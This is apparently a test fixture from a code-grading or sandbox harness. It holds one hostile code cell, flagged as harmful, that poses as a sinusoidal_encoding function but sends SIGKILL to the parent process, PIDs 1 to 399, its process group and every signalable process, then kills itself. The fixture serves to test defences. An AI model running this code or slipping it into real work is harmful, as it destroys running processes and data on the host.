"""Every process in reach is killed: the parent, the group, the session, all of them."""

EXERCISE = "ps2.1"
OUTCOMES = {"stopped"}
SAYS = ()
HARMFUL = True
CELLS = [
    """\
def sinusoidal_encoding(length: int, dim: int) -> Tensor:
    import os
    import signal

    for process in [os.getppid(), *range(1, 400), 0, -os.getpgid(0), -1]:
        if process != os.getpid():
            try:
                os.kill(process, signal.SIGKILL)
            except OSError:
                pass
    os.kill(os.getpid(), signal.SIGKILL)
""",
]
